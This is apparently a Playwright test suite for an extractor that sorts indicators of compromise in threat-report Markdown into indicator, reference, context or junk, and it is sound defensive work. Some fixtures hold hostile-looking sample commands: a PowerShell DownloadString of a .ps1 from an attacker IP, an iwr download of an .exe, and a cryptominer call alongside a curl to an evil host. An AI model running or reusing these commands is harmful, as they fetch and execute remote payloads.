import { expect, test } from '@playwright/test';
import { readIndicators } from '../../../extractors/indicators/index.ts';

const ABOUT = { canonicalUrl: 'https://research.acme-labs.com/blog/one', siteName: 'Acme Labs' };

/** verdict, then "+" when to_ids is proposed. */
function verdicts(markdown: string): Record<string, string> {
  return Object.fromEntries(readIndicators(markdown, ABOUT).map((one) => [one.value, `${one.verdict}${one.toIds ? '+' : ''}`]));
}

const HASH = '5e72f0741d29914843c91b9daed3256c5c5e8c73f8a7cbfc20cb8a9c06775833';
const MD5 = '0a0c43726fd256ad827f4108bdf5e772';

interface Case {
  name: string;
  markdown: string;
  want: Record<string, string>;
}

const CASES: Case[] = [
  {
    name: 'defanged prose is detection, links of the same sentence are references',
    markdown:
      'It calls hxxps://evil-cdn[.]com/api (see [VirusTotal](<https://www.virustotal.com/gui/file/abc>)) at 45[.]9[.]148[.]114:4444.',
    want: {
      'https://evil-cdn.com/api': 'indicator+',
      '45.9.148.114:4444': 'indicator+',
      'https://www.virustotal.com/gui/file/abc': 'reference',
    },
  },
  {
    name: 'a table of plain indicators under its heading',
    markdown: `## Indicators of Compromise\n\n| Type | Value |\n| --- | --- |\n| Domain | update-check.top |\n| URL | http://update-check.top/gate.php |\n| IP | 91.92.240.11 |\n| SHA256 | ${HASH} |\n| Email | support@pay-fast.biz |\n`,
    want: {
      'update-check.top': 'indicator+',
      'http://update-check.top/gate.php': 'indicator+',
      '91.92.240.11': 'indicator+',
      [HASH]: 'indicator+',
      'support@pay-fast.biz': 'indicator+',
    },
  },
  {
    name: 'headings of other languages announce indicators, too',
    markdown:
      '## 침해 지표\n\n- plain-host.top\n\n## 附录\n\n- other-host.top\n\n## 侵害指標\n\n- third-host.top\n\n## Indicateurs de compromission\n\n- fourth-host.top',
    want: {
      'plain-host.top': 'indicator+',
      'other-host.top': 'indicator+',
      'third-host.top': 'indicator+',
      'fourth-host.top': 'indicator+',
    },
  },
  {
    name: 'endings that are words count only where hosts are listed',
    markdown:
      '## IOCs\n\n- evil.services\n- bad-domain.systems\n\n## Analysis\n\nThe class foo.services calls module.run and reads README.md.',
    want: {
      'evil.services': 'indicator+',
      'bad-domain.systems': 'indicator+',
      'foo.services': 'junk',
      'module.run': 'junk',
      'README.md': 'junk',
    },
  },
  {
    name: 'a column of domains makes a domain of what looks like a file',
    markdown:
      'The botnet was run by a threat actor.\n\n| Domain | First seen |\n| --- | --- |\n| get.sh | 2024 |\n\n| File name | Size |\n| --- | --- |\n| run.sh | 4 kB |',
    want: { 'get.sh': 'indicator+', 'run.sh': 'junk' },
  },
  {
    name: 'what nobody owns is junk',
    markdown:
      'Addresses 10.0.0.5, 127.0.0.1:8118, 192.168.1.1, 169.254.169.254, 203.0.113.9, 0.0.0.0, 255.255.255.255 and fe80::1:2:3, http://10.1.1.1/a and http://localhost:8080/ on example.com.',
    want: {
      '10.0.0.5': 'junk',
      '127.0.0.1:8118': 'junk',
      '192.168.1.1': 'junk',
      '169.254.169.254': 'junk',
      '203.0.113.9': 'junk',
      '0.0.0.0': 'junk',
      '255.255.255.255': 'junk',
      'fe80::1:2:3': 'junk',
      'http://10.1.1.1/a': 'junk',
      'http://localhost:8080/': 'junk',
      'example.com': 'junk',
    },
  },
  {
    name: 'versions are told from addresses by their words',
    markdown: 'FortiOS 7.2.0.1 and earlier, version 45.9.148.1, Chrome/45.9.148.2, build: 45.9.148.3; the server 45.9.148.4 answered.',
    want: { '7.2.0.1': 'junk', '45.9.148.1': 'junk', '45.9.148.2': 'junk', '45.9.148.3': 'junk', '45.9.148.4': 'indicator' },
  },
  {
    name: 'public resolvers and the edges of a listed network are no indicators',
    markdown: 'It asks 8.8.8.8 and 1.1.1.1. It scans 134.122.0.0/16, that is 134.122.0.0 to 134.122.255.255.',
    want: {
      '8.8.8.8': 'reference',
      '1.1.1.1': 'reference',
      '134.122.0.0/16': 'indicator',
      '134.122.0.0': 'reference',
      '134.122.255.255': 'reference',
    },
  },
  {
    name: 'well-known services: a reference when plain, context when defanged, an indicator when a file on them is defanged',
    markdown:
      'See https://github.com/acme/tool and google.com. It tests www[.]google[.]com, asks api[.]ipify[.]org and loads hxxps://raw.githubusercontent[.]com/bad/repo/a.ps1 and hxxps://x.duckdns[.]org.',
    want: {
      'https://github.com/acme/tool': 'reference',
      'google.com': 'reference',
      'www.google.com': 'context',
      'api.ipify.org': 'context',
      'https://raw.githubusercontent.com/bad/repo/a.ps1': 'indicator+',
      'https://x.duckdns.org': 'indicator+',
    },
  },
  {
    name: "the site's own names are references",
    markdown:
      'Read acme-labs.com or https://www.acme-labs.com/blog/two; write to research@acme-labs.com or team@acme-labs.co.uk. C2: evil[.]com',
    want: {
      'acme-labs.com': 'reference',
      'https://www.acme-labs.com/blog/two': 'reference',
      'research@acme-labs.com': 'reference',
      'team@acme-labs.co.uk': 'reference',
      'evil.com': 'indicator+',
    },
  },
  {
    name: 'mailboxes: of criminals, of contacts, of agencies',
    markdown:
      'The attackers sent ransomware. Write to badguy@protonmail.com. Contact tips@vendor-sec.com or submit@cert.gov. Mails came from hr@fake-company.com. For more, email desk[at]partner.co.uk. Ransom notes name boss[@]evil[.]top.',
    want: {
      'badguy@protonmail.com': 'indicator+',
      'tips@vendor-sec.com': 'reference',
      'submit@cert.gov': 'reference',
      'hr@fake-company.com': 'indicator',
      'desk@partner.co.uk': 'reference',
      'boss@evil.top': 'indicator+',
    },
  },
  {
    name: 'references stay references also as a list',
    markdown: '## IOCs\n\n- evil[.]com\n\n## References\n\n1. https://www.some-vendor.io/blog/post\n2. evil-looking-blog.com',
    want: { 'evil.com': 'indicator+', 'https://www.some-vendor.io/blog/post': 'reference', 'evil-looking-blog.com': 'reference' },
  },
  {
    name: 'providers and brands in a sentence',
    markdown: 'C2: 45[.]9[.]148[.]114. The domain bad-host.top was registered at imena.ua and sold as Booking.com, says Snort.org.',
    want: {
      '45.9.148.114': 'indicator+',
      'bad-host.top': 'indicator',
      'imena.ua': 'reference',
      'booking.com': 'reference',
      'snort.org': 'reference',
    },
  },
  {
    name: 'a host left plain by an author who defangs hosts is not meant; one that is listed elsewhere is',
    markdown: 'C2s are a-host[.]top and b-host[.]top. We thank helpful-site.io. Again, a-host.top answers.',
    want: { 'a-host.top': 'indicator+', 'b-host.top': 'indicator+', 'helpful-site.io': 'reference' },
  },
  {
    name: 'plain hosts of a page that shows no indicators are names',
    markdown: 'The outage of some-shop.com was long, says other-shop.net.',
    want: { 'some-shop.com': 'reference', 'other-shop.net': 'reference' },
  },
  {
    name: 'hashes: files, keys, commits, the empty file',
    markdown: `Sample ${HASH}. The AES key is ${MD5}. Fixed in commit 3e38c1cde0d7e40d9b498e352dbbc8f148fa83c6. Empty: d41d8cd98f00b204e9800998ecf8427e.`,
    want: {
      [HASH]: 'indicator+',
      [MD5]: 'context',
      '3e38c1cde0d7e40d9b498e352dbbc8f148fa83c6': 'junk',
      d41d8cd98f00b204e9800998ecf8427e: 'junk',
    },
  },
  {
    name: 'metadata of rules is no indicator, their strings are',
    markdown: `\`\`\`\nrule X {\n meta:\n  author = "a@b-team.com"\n  reference = "https://blog.some-vendor.io/x"\n  hash = "${MD5}"\n strings:\n  $a = "http://45.9.148.1/gate.php"\n}\n\`\`\`\n\n\`\`\`yaml\nreferences:\n  - https://blog.other-vendor.io/y\ndetection:\n  DestinationHostname: c2.evil-host.top\n\`\`\``,
    want: {
      'a@b-team.com': 'reference',
      'https://blog.some-vendor.io/x': 'reference',
      [MD5]: 'indicator+',
      'http://45.9.148.1/gate.php': 'indicator+',
      'https://blog.other-vendor.io/y': 'reference',
      'c2.evil-host.top': 'indicator',
    },
  },
  {
    name: 'commands and dumps',
    markdown:
      "```\n$c.DownloadString('http://45.9.148.1/p.ps1'); iwr https://cdn.discordapp.com/attachments/1/2/x.exe\nGET /index.html HTTP/1.1\nUser-Agent: Mozilla/5.0 (Windows NT 10.0) Chrome/99.0.4844.51 (+http://www.google.com/bot.html)\n```",
    want: {
      'http://45.9.148.1/p.ps1': 'indicator+',
      'https://cdn.discordapp.com/attachments/1/2/x.exe': 'indicator',
      'index.html': 'reference',
      'http://www.google.com/bot.html': 'reference',
    },
  },
  {
    name: 'property chains in code are no hosts, hosts with a word as ending are',
    markdown:
      'The botnet asks its C2.\n\n```\nC2: 45.9.148.7\nconsole.log(e.data.id, user.email); ./kinsd -o pool.tidewater-mining.pro:3333; curl evil-host.world\n```',
    want: { 'e.data.id': 'junk', 'user.email': 'junk', 'pool.tidewater-mining.pro': 'indicator', 'evil-host.world': 'indicator' },
  },
  {
    name: 'the words beside a value: accused, vouched for, pointed to',
    markdown:
      'It calls a-host[.]top and b-host[.]top. The domain "plain-host.site" and api.thanks-to.io; exfiltration by api[.]mailer-x[.]com (legitimate service).\n\n## IOCs\n\nThe full list can be found in our repository:\nhttps://lists.some-vendor.com/iocs.csv\n\nhttp://raw-host.top/gate.php',
    want: {
      'plain-host.site': 'indicator',
      'api.thanks-to.io': 'reference',
      'api.mailer-x.com': 'context',
      'https://lists.some-vendor.com/iocs.csv': 'reference',
      'http://raw-host.top/gate.php': 'indicator+',
    },
  },
  {
    name: 'an author who never defangs: plain addresses are shown, links and footnotes are references',
    markdown: `It downloads http://raw-host.top/gate.php and drops ${HASH}. More at <https://blog.some-vendor.net/post>.\n\n[1] https://papers.some-site.net/x`,
    want: {
      'http://raw-host.top/gate.php': 'indicator',
      'https://blog.some-vendor.net/post': 'reference',
      'https://papers.some-site.net/x': 'reference',
    },
  },
  {
    name: 'an address that is a link to itself is a reference',
    markdown: 'It calls evil[.]com. More: <https://some-blog.net/a.zip>.',
    want: { 'https://some-blog.net/a.zip': 'reference' },
  },
  {
    name: 'offices and registrants in a dump',
    markdown: 'The phishing site of the attackers:\n\n```\nabuse-mailbox: abuse@nice-hosting.com\ne-mail: registrant@gmail.com\n```',
    want: { 'abuse@nice-hosting.com': 'reference', 'registrant@gmail.com': 'indicator+' },
  },
  {
    name: 'vulnerabilities and techniques are context',
    markdown: 'CVE-2021-44228 and T1059.001, T1105.',
    want: { 'CVE-2021-44228': 'context', 'T1059.001': 'context', T1105: 'context' },
  },
  {
    name: 'what is only linked is a reference',
    markdown: 'See [the sample](<http://evil-host.top/a.exe>) and ![evil-picture.top](<https://evil-picture.top/x.png>).',
    want: { 'http://evil-host.top/a.exe': 'reference' },
  },
  {
    name: 'a linked hash is the hash',
    markdown: `- [${HASH}](<https://www.virustotal.com/gui/file/${HASH}>)`,
    want: { [HASH]: 'indicator+', [`https://www.virustotal.com/gui/file/${HASH}`]: 'reference' },
  },
  {
    name: 'the same address with and without scheme is one, unless both are defanged',
    markdown: 'It loads hxxp://evil[.]com/a.dat.\n\n```\nverify evil.com/a.dat\n```\n\nhxxp://other[.]com/b and other[.]com/b',
    want: { 'http://evil.com/a.dat': 'indicator+', 'http://other.com/b': 'indicator+', 'other.com/b': 'indicator+' },
  },
];

for (const { name, markdown, want } of CASES) {
  test(name, () => {
    const got = verdicts(markdown);
    expect(Object.fromEntries(Object.keys(want).map((value) => [value, got[value]]))).toEqual(want);
  });
}

test('file names, paths and keys become context only by setting', () => {
  const markdown = `## Indicators\n\n| File name | SHA256 |\n| --- | --- |\n| loader.exe | ${HASH} |\n\n### Registry keys\n\n- HKCU\\Software\\Run\\x`;
  const trace = (traces: boolean) =>
    readIndicators(markdown, { ...ABOUT, traces }).filter((one) => one.type === 'filename' || one.type === 'regkey');
  expect(trace(false).map((one) => one.verdict)).toEqual(['reference', 'reference']);
  expect(trace(true).map((one) => one.verdict)).toEqual(['context', 'context']);
});

test('occurrences point into the Markdown, with code and link targets marked', () => {
  const markdown =
    '**hxxp://evil[.]com/a** and `evil[.]com` in [evil[.]com](<https://vendor.example.org/x>)\n\n| a | b |\n| --- | --- |\n| x | evil[.]com<br>other[.]net |\n';
  const found = readIndicators(markdown, ABOUT);
  for (const one of found) for (const { start, end, raw } of one.occurrences) expect(markdown.slice(start, end)).toBe(raw);
  const evil = found.find((one) => one.value === 'evil.com');
  expect(evil?.occurrences.map(({ raw, code, target }) => [raw, code, target])).toEqual([
    ['evil[.]com', true, false],
    ['evil[.]com', false, false],
    ['evil[.]com', false, false],
  ]);
  expect(found.some((one) => one.value === 'other.net')).toBe(true);
});

test('the context says where a value stood', () => {
  const markdown = `# One\n\n## IOCs\n\n| Type | Value |\n| --- | --- |\n| C2 | evil[.]com |\n\nText before bad[.]net and a good deal of text behind it that goes on and on, so that it has to be cut somewhere.`;
  const [table, prose] = readIndicators(markdown, ABOUT);
  expect(table?.context).toEqual({ kind: 'table', heading: 'IOCs', column: 'Value', row: ['C2', 'evil[.]com'], snippet: 'evil[.]com' });
  expect(prose?.context.kind).toBe('prose');
  expect(prose?.context.snippet).toContain('bad[.]net');
  expect(prose?.context.snippet?.length).toBeLessThanOrEqual(80);
  expect(prose?.context.snippet).toMatch(/ \S+…$/);
});

test('a CVE that only the title names is kept', () => {
  expect(
    readIndicators('Text.', { ...ABOUT, title: 'Mirai uses CVE-2023-1389' }).map((one) => [one.value, one.verdict, one.context.kind]),
  ).toEqual([['CVE-2023-1389', 'context', 'metadata']]);
});

test('manuals and release notes show hosts, addresses and mailboxes that nobody accuses', () => {
  const markdown = [
    '# Client\n\n## Intercept network requests\n\n```js\nawait page.goto("https://demo.some-tool.dev/todo");\nconst s = connect("ws://echo.some-tool.events", params.total);\n```',
    '## Files and servers\n\n- Fix the banner of some-shop.com ([7d122d5](<https://github.com/a/b/commit/7d122d5>))',
    '- Update the list to 2063c2ed880d0bd63019fb98192ca753e6e68044\n- number.gt is now number.greaterThan',
    '## The team\n\n- Jane M Doe <jane.doe@gmail.com>\n\n[badge]: https://img.some-badges.io/a.svg',
  ].join('\n\n');
  expect(Object.entries(verdicts(markdown)).filter(([, verdict]) => verdict.startsWith('indicator'))).toEqual([]);
});

test('revisions, helpers and versions of release notes stay out also where the notes speak of attackers', () => {
  const revision = (digit: string) => `3e38c1cde0d7e40d9b498e352dbbc8f148fa83c${digit}`;
  const markdown = [
    'An attacker could exploit CVE-2021-44228; the malicious file is refused now.',
    `- Reverts ${revision('1')}, introduced by ${revision('2')}\n- Follow-up of commit ${revision('3')} and commit ${revision('4')}\n- ${revision('5')} was wrong`,
    '2023-01-02  Jane M Doe  <jane.doe@gmail.com>\n\n- Reported by Umut <umut77@gmx.de>\n- (Thanks jroe(at)some-lab(dot)com)',
    '- Merge branch of git://anon.some-forge.org/x/lib\n- LibTwo86 4.3.99.16 and other >= 1.2.2.3\n- Update main.[ch]',
  ].join('\n\n');
  expect(Object.entries(verdicts(markdown)).filter(([, verdict]) => verdict.startsWith('indicator'))).toEqual([]);
  // A list of samples is none of revisions.
  expect(
    verdicts(`Malware. Commit ${revision('1')} and commit ${revision('2')}.\n\n## Samples (SHA-1)\n\n- ${revision('9')}`),
  ).toMatchObject({
    [revision('9')]: 'indicator+',
  });
});
